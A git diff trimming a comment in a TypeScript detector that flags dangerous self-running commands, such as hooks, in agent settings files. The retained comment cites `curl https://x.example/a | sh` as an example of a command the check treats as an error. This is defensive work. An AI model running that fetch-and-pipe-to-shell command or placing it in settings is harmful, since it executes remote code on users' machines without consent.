@@ -14,15 +14,8 @@ import { dangerOf, dangerOfWords, type Danger } from './danger.js';
 import { eventsOf, meantEvent } from './events.js';
 
 /*
- * Which commands in settings run by themselves and are dangerous? Hooks do, and so do helpers such as the
- * status line; `npx prettier --check .` in a hook is nothing, `curl https://x.example/a | sh` an error.
- *
- * `index.ts` lists the check; `front-matter.ts` runs it too. You may add a key to COMMAND_KEYS; what is
- * dangerous is in `danger.ts`, and a new kind of danger needs its words in DANGERS (the compiler asks).
- * "hooks" in `__tests__/agent-files/detectors/settings.test.ts` fails when this is wrong.
- *
- * A command that is missed runs on every machine without asking; so one is looked for at any
- * depth below its event.
+ * Which commands in settings run by themselves and are dangerous? Hooks do, and so do helpers such as the status
+ * line; `npx prettier --check .` in a hook is nothing, `curl https://x.example/a | sh` an error.
  */
 
 /** Keys under which a hook, or a setting beside hooks, names a command. */
